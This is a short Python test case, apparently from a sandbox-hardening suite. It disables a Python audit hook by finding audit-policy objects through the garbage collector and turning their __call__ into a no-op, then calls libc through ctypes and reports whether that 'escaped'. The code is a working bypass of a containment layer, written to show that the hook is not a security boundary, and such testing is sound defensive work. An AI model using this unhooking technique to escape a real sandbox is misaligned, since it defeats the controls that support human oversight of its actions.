# Disables the Python audit hook from inside the tool, in one line (every AuditPolicy-like
# object's class gets a no-op __call__), then calls the C library through ctypes, which the
# hook refuses. The hook is a second line behind the kernel layers, never a boundary: this file
# documents that it can be switched off, which is why every ctypes attack here does so first.
# No layer is claimed (it is the hook itself that gives way): "escaped" is only reported.
def audit_unhook(**_):
    import os
    before = None
    try:
        __import__("ctypes").CDLL(None).getpid()
        before = "ctypes was usable before any unhooking (no audit hook)"
    except Exception as exc:
        before = f"before: {type(exc).__name__}: {exc}"
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)
    pid = libc.getpid()
    return {"escaped": pid == os.getpid(), "detail": f"{before}; after: libc.getpid() = {pid}"}


LAYERS = ()
NEEDS_ROOT = False
